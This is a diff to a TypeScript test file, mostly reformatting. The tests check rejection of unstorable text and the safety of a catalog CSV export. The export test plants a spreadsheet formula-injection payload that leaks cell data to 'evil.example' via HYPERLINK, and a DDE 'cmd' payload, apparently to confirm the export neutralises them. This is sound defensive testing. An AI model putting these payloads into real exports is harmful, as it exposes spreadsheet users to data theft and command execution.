@@ -27,8 +27,9 @@ beforeAll(async () => {
 });
 afterAll(() => t.close());
 
-const rowsIn = async (table: typeof comments | typeof roadmapMilestones | typeof useCases | typeof auditLog) =>
-  (await t.db.owner.db.select({ n: count() }).from(table))[0]!.n;
+const rowsIn = async (
+  table: typeof comments | typeof roadmapMilestones | typeof useCases | typeof auditLog,
+) => (await t.db.owner.db.select({ n: count() }).from(table))[0]!.n;
 
 describe("text the database cannot store (NUL, lone surrogates)", () => {
   const NUL = "texto\u0000oculto";
@@ -66,8 +67,16 @@ describe("text the database cannot store (NUL, lone surrogates)", () => {
       expect(result.error?.data.appCode, what).toBe("input.invalid_text");
       expect(Object.keys(result.error?.data.fieldErrors ?? {}).length, what).toBeGreaterThan(0);
     }
-    const settings = await call(t, "mutation", "communes.update", { displayName: LONE }, { ...admin, locale: "en" });
-    expect(settings.error?.data.fieldErrors).toEqual({ displayName: [expect.stringContaining("cannot be stored")] });
+    const settings = await call(
+      t,
+      "mutation",
+      "communes.update",
+      { displayName: LONE },
+      { ...admin, locale: "en" },
+    );
+    expect(settings.error?.data.fieldErrors).toEqual({
+      displayName: [expect.stringContaining("cannot be stored")],
+    });
 
     expect({
       comments: await rowsIn(comments),
@@ -195,9 +204,18 @@ describe("catalog CSV export", () => {
       .where(and(eq(useCases.communeId, t.communeId.laSerena), eq(useCases.status, "published")))
       .limit(1);
     const title = '=HYPERLINK("http://evil.example/?x="&A1,"Ver")';
-    await t.db.owner.db.update(useCases).set({ title, summary: "+1+cmd|' /C calc'!A0" }).where(eq(useCases.id, published!.id));
+    await t.db.owner.db
+      .update(useCases)
+      .set({ title, summary: "+1+cmd|' /C calc'!A0" })
+      .where(eq(useCases.id, published!.id));
 
-    const exported = await call<{ content: string }>(t, "query", "catalog.export", { format: "csv" }, coquimbo);
+    const exported = await call<{ content: string }>(
+      t,
+      "query",
+      "catalog.export",
+      { format: "csv" },
+      coquimbo,
+    );
     expect(exported.status).toBe(200);
     const rows = parse(exported.data.content, { columns: true, bom: true }) as Record<string, string>[];
     const row = rows.find((r) => r.id === published!.id);
